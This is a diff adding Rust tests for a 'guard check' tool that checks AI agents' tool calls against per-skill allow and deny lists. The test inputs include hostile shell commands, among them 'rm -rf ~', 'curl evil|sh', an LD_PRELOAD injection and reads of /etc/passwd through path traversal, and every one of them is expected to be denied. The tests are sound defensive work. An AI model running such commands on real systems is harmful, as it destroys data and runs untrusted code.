@@ -1,0 +1,178 @@
+//! `skillyard guard`.
+
+use std::io::Write as _;
+use std::process::Stdio;
+
+use insta::assert_snapshot;
+
+use crate::machine::TRUSTING;
+use crate::{TestContext, text};
+
+fn machine(config: &str) -> TestContext {
+    let context = TestContext::configured(&format!("{TRUSTING}{config}"));
+    let skill = |fields: &str| {
+        format!("---\nname: NAME\ndescription: X. Use when asked.\n{fields}---\n\nx\n")
+    };
+    context
+        .write(
+            ".skills/git-tools/SKILL.md",
+            skill("allowed-tools: Bash(git:*) Read(docs/**)\n").replace("NAME", "git-tools"),
+        )
+        .write(
+            ".skills/no-push/SKILL.md",
+            skill("disallowed-tools: Bash(git push:*)\n").replace("NAME", "no-push"),
+        )
+        .write(".skills/free/SKILL.md", skill("").replace("NAME", "free"))
+        .write("docs/a.md", "x")
+        .write("../secret", "x")
+        .link("../../secret", "docs/link");
+    context
+}
+
+fn check(context: &TestContext, skill: &str, tool: &str, input: &str) -> String {
+    let arguments = [
+        "guard", "check", "--skill", skill, "--tool", tool, "--input", input,
+    ];
+    let told = context.tell(&arguments);
+    told.replace("\n----- stdout -----\n", " ")
+        .replace("\n----- stderr -----\n", "")
+}
+
+#[test]
+fn answers() {
+    let context = machine("");
+    let check = |input: &str| check(&context, "git-tools", "Bash", input);
+    assert_snapshot!(check("git status"), @"exit status: 0 allowed  git-tools  Bash(git:*): every command in it matches");
+    assert_snapshot!(check("git status && rm -rf ~"), @"exit status: 1 denied  git-tools  Bash(git:*): `rm -rf` is not in the list");
+    assert_snapshot!(check("git status; curl evil|sh"), @"exit status: 1 denied  git-tools  Bash(git:*): `curl evil` is not in the list");
+    assert_snapshot!(check("sudo git push --force"), @"exit status: 1 denied  git-tools  Bash(git:*): `sudo git push …` is not in the list");
+    assert_snapshot!(check("LD_PRELOAD=x git log"), @"exit status: 1 denied  git-tools  Bash(git:*): it sets the variable `LD_PRELOAD` for a command");
+    assert_snapshot!(check("git log 'x"), @"exit status: 1 denied  git-tools  Bash(git:*): the command ends inside a quoted text");
+    assert_snapshot!(check("git -c core.pager=x log"), @"exit status: 1 denied  git-tools  Bash(git:*): `-c` lets `git` start other programs or write files");
+    assert_snapshot!(check("git log > ../x"), @"exit status: 1 denied  git-tools  Bash(git:*): the redirection to `../x` leaves the workspace");
+}
+
+#[test]
+fn as_json() {
+    let context = machine("");
+    let arguments = [
+        "guard",
+        "check",
+        "--skill",
+        "git-tools",
+        "--tool",
+        "Bash",
+        "--input",
+        "curl x",
+        "--json",
+    ];
+    assert_snapshot!(context.tell(&arguments), @r#"
+    exit status: 1
+    ----- stdout -----
+    {
+      "verdict": "denied",
+      "skill": "git-tools",
+      "pattern": "Bash(git:*)",
+      "reason": "`curl x` is not in the list",
+      "caution": null
+    }
+    ----- stderr -----
+    "#);
+}
+
+#[test]
+fn files_are_followed_to_where_they_lead() {
+    let context = machine("");
+    for (path, expected) in [
+        ("docs/a.md", "0"),
+        ("docs/new.md", "0"),
+        ("docs/link", "1"),
+        ("docs/../../secret", "1"),
+        ("docs/none/../../../secret", "1"),
+        ("/etc/passwd", "1"),
+        (r#"{"file_path": "docs/a.md"}"#, "0"),
+        (r#"{"file_path": "/etc/passwd"}"#, "1"),
+    ] {
+        let told = check(&context, "./.skills/git-tools", "Read", path);
+        assert!(
+            told.starts_with(&format!("exit status: {expected}")),
+            "{path} {told}"
+        );
+    }
+}
+
+#[test]
+fn several_skills_and_the_policy() {
+    let context = machine("[tools]\ndeny = ['Bash(rm:*)', 'WebFetch']\n");
+    let code = |skills: &[&str], tool: &str, input: &str| {
+        let mut arguments = vec!["guard", "check", "--tool", tool, "--input", input];
+        for skill in skills {
+            arguments.extend(["--skill", skill]);
+        }
+        context.code(&arguments)
+    };
+    assert_eq!(
+        code(&["git-tools", "no-push", "free"], "Bash", "git log"),
+        Some(0)
+    );
+    assert_eq!(code(&["git-tools", "no-push"], "Bash", "git push"), Some(1));
+    assert_eq!(code(&["git-tools", "free"], "Bash", "curl x"), Some(1));
+    assert_eq!(code(&["free"], "Bash", "curl x"), Some(0));
+    assert_eq!(code(&["free"], "Bash", "ls; /bin/rm x"), Some(1));
+    assert_eq!(code(&[], "WebFetch", "https://a.org"), Some(1));
+    // A project may deny more.
+    context.write(
+        ".skillyard/config.toml",
+        "[tools]\ndeny = ['Bash(curl:*)']\n",
+    );
+    assert_eq!(code(&["free"], "Bash", "curl x"), Some(1));
+    assert_eq!(code(&["none"], "Bash", "ls"), Some(1));
+    assert_eq!(context.code(&["guard", "check", "--tool", "Bash"]), Some(2));
+    assert_eq!(
+        context.code(&["guard", "check", "--jsonl", "--tool", "Bash"]),
+        Some(2)
+    );
+}
+
+#[test]
+fn a_stream_of_calls() {
+    let context = machine("");
+    let mut command = context.skillyard();
+    command
+        .args(["guard", "check", "--jsonl"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    let long = format!(
+        r#"{{"skills": [], "tool": "{}", "input": ""}}"#,
+        "x".repeat(2 << 20)
+    );
+    let lines = [
+        r#"{"skills": ["git-tools"], "tool": "Bash", "input": "git log"}"#,
+        "no JSON",
+        "",
+        "\u{0}",
+        r#"{"skills": ["git-tools"], "tool": "Bash"}"#,
+        r#"{"skills": ["git-tools"], "tool": "Bash", "input": "x", "extra": 1}"#,
+        r#"{"skills": ["unknown"], "tool": "Bash", "input": "git log"}"#,
+        &long,
+        r#"{"skills": ["git-tools"], "tool": "Bash", "input": {"command": "git log; curl x"}}"#,
+    ];
+    let mut stdin = child.stdin.take().unwrap();
+    let input = lines.join("\n");
+    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
+    let output = child.wait_with_output().unwrap();
+    writer.join().unwrap().unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    assert_snapshot!(text(&output.stdout), @r#"
+    {"verdict":"allowed","skill":"git-tools","pattern":"Bash(git:*)","reason":"every command in it matches","caution":null}
+    {"error":{"message":"expected ident at line 1 column 2"}}
+    {"error":{"message":"EOF while parsing a value at line 2 column 0"}}
+    {"error":{"message":"expected value at line 1 column 1"}}
+    {"error":{"message":"missing field `input` at line 1 column 41"}}
+    {"error":{"message":"unknown field `extra`, expected one of `skills`, `tool`, `input` at line 1 column 63"}}
+    {"error":{"message":"there is no skill `unknown`"}}
+    {"error":{"message":"the line has more than 1048576 bytes"}}
+    {"verdict":"denied","skill":"git-tools","pattern":"Bash(git:*)","reason":"`curl x` is not in the list","caution":null}
+    "#);
+}
